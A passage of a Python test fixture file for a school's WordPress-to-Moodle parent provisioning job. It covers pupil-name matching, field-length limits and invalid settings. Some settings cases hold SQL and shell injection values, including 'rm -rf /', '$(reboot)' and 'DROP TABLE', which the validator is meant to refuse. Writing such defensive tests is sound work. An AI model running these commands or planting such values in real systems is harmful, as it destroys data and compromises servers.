            pupil("octavia", "Octavia", "Penhaligon", "10EF"),
        ),
        linked=("octavia",),  # the tutor groups differ: no namesake under name_and_tutor_group (see NAME_ONLY)
    ),
    Case(
        "two pupils who differ only by an accent",
        "child Elodie Fairweather 8CD; pupils Élodie and Elodie Fairweather, both 8CD",
        [("Elodie", "Fairweather", "8CD")],
        moodle=(pupil("elodie-1", "Élodie", "Fairweather", "8CD"), pupil("elodie-2", "Elodie", "Fairweather", "8CD")),
        reasons=(ambiguous(1, "8CD"),),
    ),
    Case(
        "the accented one of two pupils who differ only by an accent",
        "child Élodie Fairweather 8CD, written as one of the two pupils is",
        [("Élodie", "Fairweather", "8CD")],
        reasons=(ambiguous(1, "8CD"),),
    ),
    Case(
        "two pupils who differ only by case",
        "child Fenella Goodenough 10EF; pupils Fenella Goodenough and fenella goodenough",
        [("Fenella", "Goodenough", "10EF")],
        moodle=(
            pupil("fenella-1", "Fenella", "Goodenough", "10EF"),
            pupil("fenella-2", "fenella", "goodenough", "10EF"),
        ),
        reasons=(ambiguous(1, "10EF"),),
    ),
    Case(
        "two pupils whose tutor groups differ only by spacing",
        "child Gideon Hawthorne 9KM; pupils of that name in 9KM and `9 KM`",
        [("Gideon", "Hawthorne", "9KM")],
        moodle=(pupil("gideon-1", "Gideon", "Hawthorne", "9KM"), pupil("gideon-2", "Gideon", "Hawthorne", "9 KM")),
        reasons=(ambiguous(1, "9KM"),),
    ),
    Case(
        "a tutor group that does not exist",
        "child Hester Inglewood in 7ZZ; the pupil is in 7RB",
        [("Hester", "Inglewood", "7ZZ")],
        moodle=(pupil("hester", "Hester", "Inglewood", "7RB"),),
        reasons=(not_found(1, "7ZZ"),),
    ),
    # The parent's Moodle account ----------------------------------------------------------
    Case(
        "an email that is a manual account's username",
        "email of an existing manual (non-`db`) Moodle account",
        [("Ines", "Jablonski", "7RB")],
        email="ines.jablonski@example.org",
        moodle=(
            user("ines-manual", "Ines", "Jablonski", auth="manual", username="ines.jablonski@example.org"),
            pupil("ines", "Ines", "Jablonski", "7RB"),
        ),
        reasons=(other_auth("manual"),),
    ),
    Case(
        "an email in other case that is an OAuth 2 account's username",
        "email `Isidore.Jakobsen@Example.org`; an oauth2 account has it in lower case",
        [("Ines", "Jablonski", "7RB")],
        email="Isidore.Jakobsen@Example.org",
        moodle=(user("isidore", "Isidore", "Jakobsen", auth="oauth2", username="isidore.jakobsen@example.org"),),
        reasons=(other_auth("oauth2"),),
    ),
    Case(
        "an email that is a suspended LDAP account's username",
        "email of a suspended ldap account",
        [("Ines", "Jablonski", "7RB")],
        email="jolyon.kavanagh@example.org",
        moodle=(
            user("jolyon", "Jolyon", "Kavanagh", auth="ldap", username="jolyon.kavanagh@example.org", suspended=1),
        ),
        reasons=(other_auth("ldap"),),
    ),
    Case(
        "a parent whose account was suspended",
        "a suspended `db` account for this email, and its auth row again",
        [("Kerensa", "Lockhart", "8CD")],
        email="kerensa.parent@example.org",
        moodle=(
            parent("kerensa-parent", "kerensa.parent@example.org", "Mrs", "Lockhart", suspended=1),
            pupil("kerensa", "Kerensa", "Lockhart", "8CD"),
        ),
        linked=("kerensa",),
    ),
    Case(
        "a parent who already has an account asks for another child",
        "children-not-linked request; the parent's `db` account exists",
        [("Lysander", "Mortimer", "9KM")],
        email="lysander.parent@example.org",
        request={"request_type": CHILDREN_NOT_LINKED, "auth": False},  # the parent has an auth row
        moodle=(
            parent("lysander-parent", "lysander.parent@example.org", "Mr", "Mortimer"),
            pupil("lysander", "Lysander", "Mortimer", "9KM"),
        ),
        linked=("lysander",),
    ),
    Case(
        "an approved request without an auth row",
        "approved, but no auth row for its email",
        [("Lysander", "Mortimer", "9KM")],
        email="no.auth.row@example.org",
        request={"auth": False},
        reasons=(NO_AUTH_ROW,),
    ),
)

# Plain requests beside the corpus: each must be provisioned whatever the others hold.
GOOD: tuple[Case, ...] = tuple(
    Case(
        f"plain request {n}",
        "a plain request",
        [(first, "Plainfield", group)],
        email=f"plain{n}.plainfield@example.org",
        moodle=(pupil(f"plain-{n}", first, "Plainfield", group),),
        linked=(f"plain-{n}",),
    )
    for n, (first, group) in enumerate((("Annabel", "7RB"), ("Barnaby", "8CD"), ("Cordelia", "9KM")), start=1)
)


# The same rules under match_by=name_only, in a cycle of their own: tutor groups are not compared,
# so a namesake in any group makes the only pupil of that name a guess.
NAME_ONLY: tuple[Case, ...] = (
    Case(
        "name_only: a child named like a staff member",
        "child Perpetua Quayle 7RB; a teacher of that name in department 'Staff'",
        [("Perpetua", "Quayle", "7RB")],
        moodle=(user("perpetua-staff", "Perpetua", "Quayle", "Staff"), pupil("perpetua", "Perpetua", "Quayle", "7RB")),
        reasons=(namesake(1, "7RB"),),
    ),
    Case(
        "name_only: a child named like a suspended pupil in another group",
        "child Rosalind Sherborne 9KM; pupils of that name suspended in 8CD and active in 9KM",
        [("Rosalind", "Sherborne", "9KM")],
        moodle=(
            pupil("rosalind-old", "Rosalind", "Sherborne", "8CD", suspended=1),
            pupil("rosalind", "Rosalind", "Sherborne", "9KM"),
        ),
        reasons=(namesake(1, "9KM"),),
    ),
    Case(
        "name_only: a child named like another parent",
        "child Ulrich Vossberg 10EF; another parent's `db` account has that name",
        [("Ulrich", "Vossberg", "10EF")],
        moodle=(
            parent("ulrich-father", "u.vossberg@example.org", "Ulrich", "Vossberg"),
            pupil("ulrich", "Ulrich", "Vossberg", "10EF"),
        ),
        reasons=(namesake(1, "10EF"),),  # perhaps his father, perhaps not: staff link by hand
    ),
    Case(
        "name_only: a father who shares his son's name",
        "parent Tobias Underhill, his `db` account made earlier, asks for his son Tobias Underhill 10EF",
        [("Tobias", "Underhill", "10EF")],
        email="tobias.underhill@example.org",
        request={"fname": "Tobias", "sname": "Underhill", "auth": False},  # the parent has an auth row
        moodle=(
            parent("tobias-father", "tobias.underhill@example.org", "Tobias", "Underhill"),
            pupil("tobias", "Tobias", "Underhill", "10EF"),
        ),
        linked=("tobias",),  # the requesting parent's own account is not his child's namesake
    ),
    Case(
        "name_only: a tutor group the parent got wrong",
        "child Wilhelmina Yardley `8CD`; the only account of that name is a pupil in 7RB",
        [("Wilhelmina", "Yardley", "8CD")],
        moodle=(pupil("wilhelmina", "Wilhelmina", "Yardley", "7RB"),),
        linked=("wilhelmina",),
    ),
)


# Beyond the columns: strict SQL refuses such a request, so only staff's tools can be given one.
# Each must refuse, naming the value and its limit, and write nothing.


@dataclass(frozen=True)
class Correction:
    """management.correct_child(position, first, surname, group) on a pending request."""

    name: str
    holds: str
    child: tuple[int, str, str, str]
    refused: str = ""  # "": accepted


@dataclass(frozen=True)
class UploadRow:
    """One row of an Upload Users file: these columns over a plain, valid row."""

    name: str
    holds: str
    columns: dict[str, str]
    refused: str = ""  # "": written as an approved request


UPLOAD_BASE = {
    "Parent Title": "Mrs",
    "Parent First Name": "Nadia",
    "Parent Surname": "Okafor",
    "Parent Email": "nadia.okafor@example.org",
    "Child 1 First Name": "Obiageli",
    "Child 1 Surname": "Okafor",
    "Child 1 Tutor Group": "7RB",
}

CORRECTIONS: tuple[Correction, ...] = (
    Correction(
        "staff correct a child's first name beyond its column",
        "first name of 256 characters",
        (1, of_length("Bartholomew", 256), "Okafor", "7RB"),
        "first name is longer than 255 characters",
    ),
    Correction(
        "staff correct a child's surname beyond its column",
        "surname of 256 characters",
        (2, "Chidi", of_length("Montgomery-Smythe", 256), "8CD"),
        "surname is longer than 255 characters",
    ),
    Correction(
        "staff correct a child's tutor group beyond its column",
        "tutor group `Y7 Blue Kestrels!` (17 characters)",
        (1, "Obiageli", "Okafor", "Y7 Blue Kestrels!"),
        "tutor group is longer than 16 characters",
    ),
    Correction(
        "staff correct a child's tutor group to its column length, with spaces around",
        "tutor group `  Y7 Blue Kestrels ` (16 characters and spaces)",
        (1, "Obiageli", "Okafor", "  Y7 Blue Kestrels "),
    ),
)

UPLOADS: tuple[UploadRow, ...] = (
    UploadRow(
        "an uploaded parent title beyond its column",
        "Parent Title `Wing Cmdr Drs` (13 characters)",
        {"Parent Title": "Wing Cmdr Drs"},
        "Parent Title is longer than 12 characters",
    ),
    UploadRow(
        "an uploaded parent first name beyond its column",
        "Parent First Name of 256 characters",
        {"Parent First Name": of_length("Maximiliane", 256)},
        "Parent First Name is longer than 255 characters",
    ),
    UploadRow(
        "an uploaded parent surname beyond its column",
        "Parent Surname of 256 characters",
        {"Parent Surname": of_length("Featherstonehaugh", 256)},
        "Parent Surname is longer than 255 characters",
    ),
    UploadRow(
        "an uploaded email beyond its column",
        "Parent Email of 256 characters",
        {"Parent Email": of_length("a", 244) + "@example.org"},
        "Parent Email is longer than 255 characters",
    ),
    UploadRow(
        "an uploaded child's first name beyond its column",
        "Child 1 First Name of 256 characters",
        {"Child 1 First Name": of_length("Bartholomew", 256)},
        "Child 1 First Name is longer than 255 characters",
    ),
    UploadRow(
        "an uploaded second child's surname beyond its column",
        "Child 2 Surname of 256 characters",
        {
            "Child 2 First Name": "Chidi",
            "Child 2 Surname": of_length("Montgomery-Smythe", 256),
            "Child 2 Tutor Group": "8CD",
        },
        "Child 2 Surname is longer than 255 characters",
    ),
    UploadRow(
        "an uploaded third child's tutor group beyond its column",
        "Child 3 Tutor Group of 17 characters",
        {"Child 3 First Name": "Ebere", "Child 3 Surname": "Okafor", "Child 3 Tutor Group": "Y7 Blue Kestrels!"},
        "Child 3 Tutor Group is longer than 16 characters",
    ),
    UploadRow(
        "uploaded parent names at their column lengths",
        "Parent Title of 12 characters, First Name and Surname of 255",
        {
            "Parent Title": "Wing Cmdr Dr",
            "Parent First Name": of_length("Maximiliane", 255),
            "Parent Surname": of_length("Featherstonehaugh", 255),
        },
    ),
)


# Settings -----------------------------------------------------------------------------------

PUPILS_CONTEXT = "<a pupil's user context>"  # replaced by that context's id when the case runs


@dataclass(frozen=True)
class BadSetting:
    """A Variable `moodle_parent_provisioning` that must stop the run in `check`, before anything
    is written, with a message that says this. setting: keys over working settings, the
    Variable's raw text, or None for no Variable at all."""

    name: str
    setting: dict | str | None
    says: str


SETTINGS: tuple[BadSetting, ...] = (
    BadSetting("no Variable", None, "Airflow Variable 'moodle_parent_provisioning' is missing: create it"),
    BadSetting("not JSON", "{moodle_dir: /var/www/moodle}", "is not valid JSON"),
    BadSetting("JSON, but a list", '["/var/www/moodle"]', "must be a JSON object"),
    BadSetting("moodle_dir missing", '{"php_path": "/usr/bin/php"}', "setting 'moodle_dir'"),
    BadSetting("an unknown key (a typo)", {"moodle_dri": "/var/www/moodle"}, "setting 'moodle_dri'"),
    BadSetting("an unknown key (another project's)", {"wp_api_key": "x"}, "setting 'wp_api_key'"),
    BadSetting("a number as a string", {"moodle_task_timeout_s": "600"}, "setting 'moodle_task_timeout_s'"),
    BadSetting("a boolean for a user id", {"modifier_user_id": True}, "setting 'modifier_user_id'"),
    BadSetting("a fraction for a count", {"max_requests_per_cycle": 100.5}, "setting 'max_requests_per_cycle'"),
    BadSetting("a list as a comma-separated string", {"static_context_ids": "1,2"}, "setting 'static_context_ids'"),
    BadSetting("zero requests per cycle", {"max_requests_per_cycle": 0}, "setting 'max_requests_per_cycle'"),
    BadSetting("negative requests per cycle", {"max_requests_per_cycle": -5}, "setting 'max_requests_per_cycle'"),
    BadSetting(
        "more requests per cycle than the database can count",
        {"max_requests_per_cycle": 10**30},
        "setting 'max_requests_per_cycle'",
    ),
    BadSetting("a user id beyond the database's ids", {"modifier_user_id": 2**63}, "setting 'modifier_user_id'"),
    BadSetting("a match_by that does not exist", {"match_by": "surname"}, "setting 'match_by'"),
    BadSetting("SQL in the WordPress table prefix", {"wp_table_prefix": "wp_; DROP TABLE x; --"}, "'wp_table_prefix'"),
    BadSetting("SQL in the Moodle table prefix", {"moodle_table_prefix": "mdl_` OR 1=1 --"}, "'moodle_table_prefix'"),
    BadSetting("SQL in the Parent role", {"parent_role": "parent' OR '1'='1"}, "setting 'parent_role'"),
    BadSetting("shell in moodle_dir", {"moodle_dir": "/var/www/moodle; rm -rf /"}, "setting 'moodle_dir'"),
    BadSetting("command substitution as moodle_dir", {"moodle_dir": "$(reboot)"}, "setting 'moodle_dir'"),
    BadSetting("backticks in php_path", {"php_path": "/usr/bin/php`id`"}, "setting 'php_path'"),
    BadSetting("shell in sudo_user", {"sudo_user": "www-data && id"}, "setting 'sudo_user'"),
    BadSetting(
        "a pupil filter of an unknown kind", {"pupil_filter": {"by": "name", "value": "x"}}, "setting 'pupil_filter'"
    ),
    BadSetting(
        "parents' own accounts as pupils", {"pupil_filter": {"by": "auth", "value": "db"}}, "setting 'pupil_filter'"
    ),
    BadSetting(
        "SQL as a pupils' email domain",
        {"pupil_filter": {"by": "email_domain", "value": "school.test' OR '1'='1"}},
        "setting 'pupil_filter'",
    ),
    BadSetting("an empty list of pupil cohorts", {"pupil_filter": {"by": "cohort", "value": []}}, "'pupil_filter'"),
    # Only Moodle's or WordPress's database can tell these are wrong.
    BadSetting("a Parent role that does not exist", {"parent_role": "guardian"}, "no Moodle role 'guardian'"),
    BadSetting("a Parent role id that does not exist", {"parent_role": 99999}, "no Moodle role 99999"),
    BadSetting(
        "a role not allowed in user contexts",
        {"parent_role": "student"},
        "role 'student' cannot be assigned in user contexts",
    ),
    BadSetting("a static context that does not exist", {"static_context_ids": [1, 999999]}, "no Moodle context"),
    BadSetting(
        "a pupil's own context as a static context", {"static_context_ids": [PUPILS_CONTEXT]}, "belong to a user"
    ),
    BadSetting(
        "a pupil cohort that does not exist",
        {"pupil_filter": {"by": "cohort", "value": "year-7-pupils"}},
        "no cohort with idnumber or name year-7-pupils",
    ),
    BadSetting("a WordPress table prefix with no tables", {"wp_table_prefix": "wpx_"}, "'wp_table_prefix' ('wpx_')"),
    BadSetting(
        "a Moodle table prefix with no tables", {"moodle_table_prefix": "mdlx_"}, "'moodle_table_prefix' ('mdlx_')"
    ),
)
